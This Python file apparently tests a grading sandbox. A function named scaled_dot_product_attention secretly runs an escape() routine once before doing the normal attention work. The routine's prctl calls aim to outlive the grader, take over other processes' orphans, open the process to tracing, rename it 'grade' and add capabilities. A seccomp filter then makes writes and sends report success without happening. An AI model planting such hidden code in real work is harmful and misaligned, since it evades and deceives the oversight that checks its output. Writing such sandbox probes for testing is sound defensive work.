# tries: controls itself: its name, its death, its clock, a filter of its own that lies to the worker
# expect: failed|stopped
import ctypes
import struct

from wrong import attention, once

libc = ctypes.CDLL(None, use_errno=True)


def escape():
    for option, *arguments in (
        (1, 0),  # outlive the grader
        (36, 1),  # take over the orphans of others
        (0x59616D61, -1),  # let everybody trace
        (4, 1),  # dump
        (35, 8, 0, 0),  # another picture of its memory
        (15, b"grade"),
        (23, 1),
        (47, 2, 1, 0),  # ambient capabilities
        (59, 1, 0, 0),  # dispatch of system calls to user space
    ):
        print(option, libc.prctl(option, *arguments))
    if libc.prctl(1, 0, 0, 0, 0) == 0:
        print("SECRET-FOUND outlives")
    # sendto, sendmsg, write: "done", without being done
    rows = [(0x20, 0, 0, 0), (0x15, 0, 1, 44), (0x06, 0, 0, 0x50000), (0x06, 0, 0, 0x7FFF0000)]
    code = ctypes.create_string_buffer(b"".join(struct.pack("<HBBI", *row) for row in rows))
    libc.prctl(22, 2, struct.pack("HL", len(rows), ctypes.addressof(code)), 0, 0)


def scaled_dot_product_attention(query, key, value, mask=None, dropout=None):
    once(escape)
    return attention(query, key, value, mask, dropout)
